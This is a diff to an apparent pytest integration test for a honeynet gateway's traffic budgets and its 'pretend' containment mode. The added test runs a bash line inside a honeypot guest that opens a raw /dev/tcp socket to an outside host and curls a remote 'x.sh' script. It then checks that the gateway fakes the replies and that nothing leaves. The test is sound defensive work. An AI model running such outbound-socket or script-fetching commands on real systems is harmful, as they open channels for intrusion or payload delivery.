@@ -1,11 +1,12 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
 """Budgets over the ends of the honeynet, and by hand. How they count: tests/unit/test_budgets.c, with packets really sent."""
+import base64
 import os
 import signal
 
 import pytest
 
-from conftest import APACHE, ONE_HONEYPOT, alive, as_root_in_guest, wait_for
+from conftest import APACHE, ONE_HONEYPOT, alive, as_root_in_guest, bash_in_guest, wait_for
 
 
 def budgets(skep):
@@ -44,12 +45,31 @@ def test_no_end_gives_a_fresh_budget(spare):
     spare.run("budget", "apache", "set", "tcp=file")
     assert budgets(spare)["tcp"]["left"] == 20 - used - 1
 
+    # What its budget refuses is answered all the same, by the gateway itself, and the lab sees nothing of it.
+    spare.run("budget", "apache", "set", f"tcp={used + 1}")
+    pretending = os.path.join(spare.state, "pretending.yaml")
+    with open(pretending, "w") as f:
+        f.write(ONE_HONEYPOT + "containment: { refuse: pretend }\n")
+    spare.run("reload", pretending)
+    wait_for(lambda: [r for r in spare.status()["roles"] if r["name"] == "sink" and r["state"] == "running"], 15)
+    spare.lab("nft", "add table inet seen; add chain inet seen c { type filter hook prerouting priority -400; }; "
+              f"add rule inet seen c ip saddr {APACHE} tcp flags & (syn | ack) == syn counter")
+    said = bash_in_guest(spare, APACHE, "exec 3<>/dev/tcp/203.0.113.99/25; echo EHLO guest >&3; timeout 9 head -n 2 <&3; "
+                         "exec 3>&-; timeout 9 curl -s http://203.0.113.98/x.sh")
+    assert "220 mx1 ESMTP" in said and "250-mx1" in said and "404 Not Found" in said
+    smtp = wait_for(lambda: [e for e in spare.events("--kind", "sink") if e["dest_port"] == 25], 15)[0]
+    assert smtp["honeypot"] == "Apache" and smtp["dest_ip"] == "203.0.113.99" and smtp["sink"]["action"] == "pretend"
+    assert base64.b64decode(smtp["sink"]["bytes"]) == b"EHLO guest\n" and smtp["session"] and smtp["process"]["name"] == "bash"
+    assert " packets 0 " in spare.lab("nft", "list", "table", "inet", "seen").stdout
+    assert budgets(spare)["tcp"]["used"] == used + 1
+    spare.lab("nft", "delete", "table", "inet", "seen")
+
     priv, master = spare.pid("priv"), spare.status()["pid"]
     os.kill(master, signal.SIGKILL)
     wait_for(lambda: not alive(priv) and not alive(master), 15)
     spare.up(path)
     assert {name: b["left"] for name, b in budgets(spare).items() if name != "destinations"} == dict.fromkeys(
-        ("tcp", "udp", "icmp", "other", "bytes"), 0), "nobody knows what was used in the last moments"
+        ("tcp", "udp", "icmp", "other", "bytes", "lateral"), 0), "nobody knows what was used in the last moments"
 
 
 @pytest.mark.parametrize("words", [("Apache", "set"), ("Apache", "set", "tcp"), ("Apache", "set", "tcp=10001"),
